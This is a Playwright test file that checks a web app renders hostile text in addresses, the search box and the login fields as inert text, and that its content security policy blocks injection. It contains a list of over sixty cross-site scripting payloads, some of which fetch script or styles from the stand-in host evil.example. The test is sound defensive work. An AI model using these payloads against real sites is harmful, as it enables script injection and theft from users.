/** Trust: hostile text through everything that an address or a person can bring to a screen, of which nothing runs and nothing leads away. */
import { expect, test, type Page } from '@playwright/test'
import { loginDialog } from './person.ts'

const RUN = 'window.__ran=1'
/** Markup, attributes, schemes and templates that have run somewhere; each would leave a mark on the window or open a dialog. */
const PAYLOADS = [
  `<script>${RUN}</script>`, `"><script>${RUN}</script>`, `'><script>${RUN}</script>`, `</script><script>${RUN}</script>`, `</title><script>${RUN}</script>`,
  `</textarea><script>${RUN}</script>`, `--><script>${RUN}</script>`, `]]><script>${RUN}</script>`, `<ScRiPt>${RUN}</sCrIpT>`, `<script\n>${RUN}</script>`,
  `<script/src=data:,${RUN}></script>`, `<script src=//evil.example/x.js></script>`, `<script type=module>${RUN}</script>`, `<scr<script>ipt>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`, `<img src=x onerror="${RUN}">`, `"><img src=x onerror=${RUN}>`, `<img/src='x'/onerror=${RUN}>`, `<img src=x:x onerror=${RUN}//`,
  `<image href=x onerror=${RUN}>`, `<svg onload=${RUN}>`, `<svg/onload=${RUN}>`, `<svg><script>${RUN}</script></svg>`, `<svg><animate onbegin=${RUN} attributeName=x>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>x</text></a></svg>`, `<svg><use href="data:image/svg+xml,<svg onload=${RUN}>"/>`, `<body onload=${RUN}>`,
  `<iframe srcdoc="<script>parent.__ran=1</script>">`, `<iframe src="javascript:parent.__ran=1">`, `<iframe onload=${RUN}>`, `<object data="javascript:${RUN}">`,
  `<embed src="javascript:${RUN}">`, `<video><source onerror=${RUN}>`, `<audio src onerror=${RUN}>`, `<details open ontoggle=${RUN}>`, `<input autofocus onfocus=${RUN}>`,
  `<select autofocus onfocus=${RUN}>`, `<marquee onstart=${RUN}>`, `<a href="javascript:${RUN}">x</a>`, `<form action="javascript:${RUN}"><button>x`, `<math><mtext><script>${RUN}`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`, `<template><script>${RUN}</script></template>`, `<style>@import "//evil.example/x.css"</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`, `<base href=//evil.example/>`, `<meta http-equiv=refresh content="0;url=//evil.example">`,
  `<meta http-equiv=refresh content="0;url=javascript:${RUN}">`, `<div style="background:url(javascript:${RUN})">`, `<x onclick=${RUN} autofocus tabindex=1>`,
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, `data:text/html,<script>${RUN}</script>`, `\${${RUN}}`, `{{constructor.constructor('${RUN}')()}}`,
  `#{${RUN}}`, `';${RUN};//`, `";${RUN};//`, `\\";${RUN};//`, `\u2028${RUN}//`, `%3Cscript%3E${RUN}%3C/script%3E`, `&lt;script&gt;${RUN}&lt;/script&gt;`, `{"__html":"<img src=x onerror=${RUN}>"}`,
] // oxfmt-ignore

/** Shows every payload in one address after another, without loading the page anew. */
async function walk(page: Page, addressOf: (payload: string) => string): Promise<void> {
  for (const payload of PAYLOADS) {
    await page.evaluate((to) => {
      history.pushState(null, '', to)
      dispatchEvent(new PopStateEvent('popstate'))
    }, addressOf(payload))
    await page.evaluate(() => new Promise((drawn) => requestAnimationFrame(drawn)))
  }
}

test('hostile text in addresses and fields is shown as text: nothing runs, nothing opens, nothing is fetched elsewhere', async ({
  page,
  baseURL,
}) => {
  expect(PAYLOADS.length).toBeGreaterThanOrEqual(60)
  const away: string[] = []
  const opened: string[] = []
  const site = new URL(baseURL ?? '').host
  page.on('request', (request) => {
    const { host, protocol } = new URL(request.url())
    if (/^https?:|^wss?:/.test(protocol) && host !== site) away.push(request.url())
  })
  page.on('dialog', (dialog) => {
    opened.push(dialog.message())
    void dialog.dismiss()
  })
  page.on('popup', (popup) => opened.push(popup.url()))
  const ran = () => page.evaluate(() => (window as unknown as { __ran?: number }).__ran)

  // Whole loads, where the page itself is written by what the address says.
  for (const [at, index] of [['/rng?vassalage=', 0], ['/login?to=', 14], ['/help#', 27], ['/play/PG/', 20], ['/reset#', 1]] as const) {
    await page.goto(`${at}${encodeURIComponent(PAYLOADS[index] ?? '')}`)
    // Where a dialog opens, what is behind it is no part of the page for anybody.
    await expect(page.getByRole('dialog').or(page.getByRole('main')).first()).toBeVisible()
  } // oxfmt-ignore
  await page.goto('/rng')
  await expect(page.getByRole('searchbox')).toBeVisible()
  const text = encodeURIComponent
  for (const addressOf of [
    (payload: string) => `/rng?vassalage=${text(payload)}&q=${text(payload)}&sort=${text(payload)}#${text(payload)}`,
    (payload: string) => `/login?to=${text(payload)}`,
    (payload: string) => `/no-such-page/${text(payload)}#${text(payload)}`,
  ])
    await walk(page, addressOf)

  // What is typed comes back on the screen.
  await page.goto('/rng')
  const words = page.getByRole('searchbox')
  for (const payload of PAYLOADS.slice(0, 20)) await words.fill(payload)
  await page.goto('/login')
  await loginDialog(page)
    .getByLabel('Username')
    .fill(PAYLOADS[15] ?? '')
  await loginDialog(page)
    .getByLabel('Password', { exact: true })
    .fill(PAYLOADS[0] ?? '')
  await loginDialog(page).getByRole('button', { name: 'Log in', exact: true }).click()
  await expect(loginDialog(page).getByRole('alert')).toBeVisible()

  expect(await ran()).toBeUndefined()
  expect([away, opened]).toEqual([[], []])
  // The page's own policy stands behind all this: it takes no text for a script or for markup.
  const refused = await page.evaluate(() => {
    const tries = [() => document.body.insertAdjacentHTML('beforeend', '<i>'), () => (document.createElement('script').src = 'data:,1')] // oxfmt-ignore
    return tries.map((attempt) => {
      try {
        attempt()
        return 'taken'
      } catch (error) {
        return error instanceof Error ? error.name : 'refused'
      }
    })
  })
  expect(refused).not.toContain('taken')
})
